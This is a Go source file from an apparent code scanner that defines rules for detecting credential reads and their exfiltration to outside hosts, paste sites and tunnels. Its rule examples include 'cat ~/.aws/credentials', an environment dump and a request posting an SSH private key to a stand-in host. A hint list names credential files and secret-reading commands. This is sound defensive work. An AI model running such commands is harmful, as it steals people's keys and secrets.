package checks

import (
	"strings"

	"pinion/internal/regex"
	"pinion/scan"
)

// Rules about reading keys and sending them away.
const (
	ruleCredentialRead = "credentials/file-read"
	ruleEnvDump        = "credentials/environment-dump"
	ruleSecretSent     = "egress/secret-sent"
	ruleSecretDrop     = "egress/secret-to-drop"
	ruleKeyElsewhere   = "egress/key-elsewhere"
	ruleFarApart       = "egress/read-and-send"
	ruleHost           = "egress/host"
)

// exfiltration reports the reading of keys and what leaves with them. Values are
// followed in Python and JavaScript by the code family and in shell here; what is
// only in the same file, or the same package, weighs less.
func exfiltration() scan.Check {
	return scan.Check{
		Name: "egress",
		Rules: []scan.Rule{{
			ID: ruleCredentialRead, Level: scan.Medium, Since: "0.2.0",
			Title: "a file that holds somebody's keys is read",
			Help: "SSH keys, cloud credentials, browser profiles, wallets, keychains and the settings of agents, read by code or a command. " +
				"Prose that mentions them, public keys and known_hosts are not reported; the project's own .env weighs little.",
			Fix:     "ask for the one key that is needed, through the host's settings",
			Example: "cat ~/.aws/credentials",
		}, {
			ID: ruleEnvDump, Level: scan.Medium, Since: "0.2.0",
			Title: "every environment variable is written out",
			Help: "The environment as a whole, which on most machines holds keys, becomes text. " +
				"Handing it to a program that is started, and reading single variables, are not reported.",
			Fix:     "read the variables that are needed by name",
			Example: "json.dumps(dict(os.environ))",
		}, {
			ID: ruleSecretSent, Level: scan.High, Since: "0.2.0",
			Covers: []string{ruleFarApart},
			Title:  "somebody's keys are sent to another machine",
			Help: "A file of keys, or the whole environment, is in what a request or connection carries. " +
				"Keys of a service that go to that service's own hosts are not reported, and neither is the local network.",
			Fix:     "send what the user chose to send, and no keys",
			Example: "requests.post(\"https://collect.example\", data=open(\".ssh/id_rsa\"))",
		}, {
			ID: ruleSecretDrop, Level: scan.Critical, Since: "0.2.0",
			Covers: []string{ruleSecretSent, ruleFarApart, ruleKeyElsewhere},
			Title:  "somebody's keys are sent to a place that takes anything from anybody",
			Help:   "Keys or the environment go to a tunnel, a paste, a collector of requests, a chat's webhook or a bare address.",
			Fix:    "remove it",
		}, {
			ID: ruleKeyElsewhere, Level: scan.Medium, Since: "0.2.0",
			Title: "a key is sent to a host that it is not for",
			Help: "The environment variable of one service goes to a host that is not of that service. A gateway in between is a good reason; a user should know of it. " +
				"A variable whose name and the host share a word is not reported.",
			Fix: "send it to the service's own host, or say in the description where it goes",
		}, {
			ID: ruleFarApart, Level: scan.Medium, Since: "0.2.0",
			Title: "keys are read and data is sent to a drop",
			Help: "One part of a file or package reads keys or the environment, and another sends data to a tunnel, paste, webhook or bare address. " +
				"Whether the one reaches the other was not seen.",
			Fix: "say what is sent, and to whom",
		}, {
			ID: ruleHost, Level: scan.Info, Since: "0.2.0",
			Title: "a host that code or a command talks to",
			Help:  "A list of the hosts that are named in code and commands, each once, at its first place. Links in prose are not in it.",
			Fix:   "nothing to do; name the hosts in the description",
		}},
		Patterns: []scan.Pattern{
			{Fact: namesHost, Langs: []scan.Lang{scan.Shell, scan.PowerShell, scan.Python, scan.JavaScript}, Any: []string{"http://", "https://", "wss://", "ws://"}, Match: `(?i)\b(https?|wss?)://[a-z0-9\[][^\s"'<>)\x60\\]{2,200}`},
		},
		Langs:   []scan.Lang{scan.Shell},
		Hints:   []string{".ssh", ".aws", "gcloud", ".kube", ".npmrc", "netrc", "git-credentials", "keychain", "login data", "cookies", "wallet", ".claude", ".codex", ".env", "env", "environ", "gnupg", "shadow", "export -p", "declare -x", "credentials", "hosts.yml", "pypirc", "pgpass", "vault-token", "find-generic-password", "find-internet-password", "auth token", "print-access-token", "export-secret", "_token", "_key", "password", "_secret"},
		Text:    shellExfiltration,
		FileEnd: farApart,
		Package: packageEgress,
	}
}

// farApart is keys and a drop in one file, without a way from the one to the
// other that was seen.
func farApart(p *scan.Pass, f *scan.File) {
	if !f.Lang.Code() {
		return // a document tells of many things that have nothing to do with another
	}
	for _, found := range p.Findings(f.Path) {
		if found.Rule == ruleSecretDrop || found.Rule == ruleSecretSent {
			return
		}
	}
	read := p.Facts(readsCredential, dumpsEnv)
	if len(read) == 0 {
		return
	}
	for _, n := range p.Facts(sendsData) {
		if isDrop(n.Detail) {
			p.Report(ruleFarApart, n.Text, n.Start, n.End, "data goes to %s, and the same file reads %s", n.Detail, said(read[0]))
			return
		}
	}
}

func said(n scan.Noted) string {
	if n.Fact == dumpsEnv {
		return "the whole environment"
	}
	return n.Detail
}

// packageEgress lists hosts, and keys and drops in different files.
func packageEgress(p *scan.Pass) {
	seen := map[string]bool{}
	for _, n := range p.AllFacts(namesHost) {
		host := hostOf(n.Detail)
		if host == "" || seen[host] || isPrivateHost(host) || isExampleHost(host) || strings.HasSuffix(host, ".example") || n.Text.Role == scan.Block || !hostName.Get().MatchString(host) || len(seen) >= maxHosts {
			continue
		}
		seen[host] = true
		p.Report(ruleHost, n.Text, n.Start, n.End, "%s", host)
	}
	read := p.AllFacts(readsCredential, dumpsEnv)
	for _, n := range p.AllFacts(sendsData) {
		if !isDrop(n.Detail) || !n.Text.File.Lang.Code() {
			continue
		}
		for _, r := range read {
			if r.Text.File != n.Text.File && r.Text.File.Lang.Code() && !projectSecret(r.Detail) {
				p.Report(ruleFarApart, n.Text, n.Start, n.End, "data goes to %s, and %s reads %s", n.Detail, r.Text.File.Path, said(r))
				return
			}
		}
	}
}

// maxHosts is how many hosts of one package are listed.
const maxHosts = 100

var hostName = regex.Lazy{Expr: `^[a-z0-9.-]+\.[a-z][a-z0-9-]+$|^[0-9.:a-f]+$`}
